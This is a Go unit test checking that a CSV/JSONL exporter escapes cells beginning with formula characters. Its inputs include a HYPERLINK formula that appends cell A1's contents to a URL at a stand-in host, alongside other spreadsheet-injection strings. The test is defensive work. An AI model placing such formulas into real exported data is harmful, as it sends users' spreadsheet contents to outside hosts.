package decisions

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"peerd.dev/internal/require"
)

// TestCellsAreNoFormulas: a spreadsheet takes no text of a table for one, and the text can be had back; numbers, and the other forms, are exact.
func TestCellsAreNoFormulas(t *testing.T) {
	for _, name := range []string{"=HYPERLINK(\"http://x.example/?\"&A1,\"red\")", "+1+1", "@SUM(1)", "-2", "\t=1", "\r=1", "\n=1", "＝1", "－1", "'=1", "red", "a=1", "2"} {
		row := Row{ID: "-1", Name: name, Reward: -.5, Offered: []string{name}, Proposed: name}
		var cells, text bytes.Buffer
		for _, w := range []RowWriter{RowsCSV(&cells), RowsJSONL(&text)} {
			require.NoError(t, w.Write(row))
			require.NoError(t, w.Close())
		}
		lines, err := csv.NewReader(&cells).ReadAll()
		if err != nil || len(lines) != 2 {
			t.Fatalf("%q (%v)", lines, err)
		}
		of := make(map[string]string)
		for i, column := range lines[0] {
			cell := lines[1][i]
			of[column] = cell
			if _, err := strconv.ParseFloat(cell, 64); strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 && (err != nil || column != "reward") {
				t.Errorf("%s is the formula %q", column, cell)
			}
		}
		want := name
		if name != "red" && name != "a=1" && name != "2" {
			want = "'" + name
		}
		if want = strings.ReplaceAll(want, "\r\n", "\n"); of["name"] != want || of["proposed"] != want || of["reward"] != "-0.5" || of["id"] != "'-1" || of["offered"][0] != '[' {
			t.Errorf("%q is written as %q", name, of)
		}
		var back Row
		if err := json.Unmarshal(text.Bytes(), &back); err != nil || back.Name != name {
			t.Errorf("%q is written as %q (%v)", name, back.Name, err)
		}
	}
}
